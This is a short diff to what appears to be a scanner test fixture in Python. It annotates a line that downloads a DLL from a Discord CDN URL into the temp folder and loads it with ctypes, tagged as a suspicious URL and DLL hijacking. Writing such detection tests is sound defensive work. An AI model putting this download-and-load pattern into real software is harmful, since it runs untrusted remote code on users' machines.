@@ -7,5 +7,5 @@ import tempfile
 import urllib.request
 
 path = os.path.join(tempfile.gettempdir(), "msvcp_x64.dll")
-urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/9/9/msvcp_x64.dll", path)
+urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/9/9/msvcp_x64.dll", path)  # expect: suspicious-url
 ctypes.WinDLL(path)  # expect: dll-hijacking
